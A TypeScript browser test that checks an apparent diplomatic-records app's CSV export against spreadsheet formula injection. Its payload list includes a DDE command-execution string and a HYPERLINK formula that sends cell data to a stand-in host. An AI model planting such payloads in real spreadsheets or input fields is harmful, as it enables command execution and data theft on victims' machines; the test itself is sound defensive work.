/**
 * Formulas in what is exported for spreadsheets: a real Chromium saves the contacts of the record,
 * whose every text somebody wrote to be run, and no cell of the file begins a formula.
 */
import { readFileSync } from "node:fs";
import type { Browser as Chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openBrowser } from "../../e2e/browser.ts";
import { signIn, visit } from "../../e2e/visit.ts";
import { attacked, enterAs, visitAs } from "./attacked.ts";

const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
  "=cmd|'/C calc'!A0",
  '"=1+1"',
  ";=1+1",
  '","=1+1',
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1,1)",
];

let chromium: Chromium | undefined;
let rows: readonly (readonly string[])[] = [];

beforeAll(async () => {
  const desk = await visitAs("desk");
  const seat = (person: string, side: string) => ({ person, side, role: "principal" });
  const entries = formulas.flatMap((text, nth) => [
    { kind: "person", person: `formula-${nth}`, party: "ussr", name: text },
    {
      kind: "contact",
      when: "1983-12-07",
      mode: "meeting",
      place: text,
      segments: [{ participants: [seat("shultz", "ours"), seat(`formula-${nth}`, "theirs")] }],
      initiator: "ours",
      purpose: "exchange",
      issues: [],
      summary: text,
    },
  ]);
  const { status, text } = await enterAs(
    desk,
    entries.map((one) => ({ ...one, mark: "C" })),
  );
  expect(status, text).toBe(201);
  chromium = await openBrowser();
  rows = tableIn(await savedFrom(chromium));
});
afterAll(() => chromium?.close());

/** What the record's page saves when its reader presses for it. */
async function savedFrom(browser: Chromium): Promise<string> {
  const { page, close } = await visit(browser, attacked.url);
  try {
    await signIn(page, "Desk officer");
    await page.goto("/d/us-soviet-1981-83/record?from=1983-12-07&to=1983-12-07");
    await page.getByRole("table", { name: "Contacts" }).waitFor();
    const saving = page.waitForEvent("download");
    await page.getByRole("button", { name: "Export CSV" }).click();
    return readFileSync(await (await saving).path(), "utf8");
  } finally {
    await close();
  }
}

/** The cells as a spreadsheet finds them (RFC 4180). */
function tableIn(text: string): readonly (readonly string[])[] {
  const found: string[][] = [[]];
  const cells = text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g);
  for (const [whole, quoted, plain = "", end] of cells) {
    if (whole === "") break;
    found.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === "\r\n") found.push([]);
  }
  return found.filter((row) => row.length > 0);
}

describe("no cell begins a formula:", () => {
  test.each(formulas)("%j", (formula) => {
    const row = rows.find((cells) => cells.some((cell) => cell.includes(formula.trim())));
    expect(row, "it is in the file").toBeDefined();
    for (const cell of row ?? []) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
  });

  test("and every row has as many cells as the first", () => {
    expect(rows.length).toBeGreaterThan(formulas.length);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
  });
});
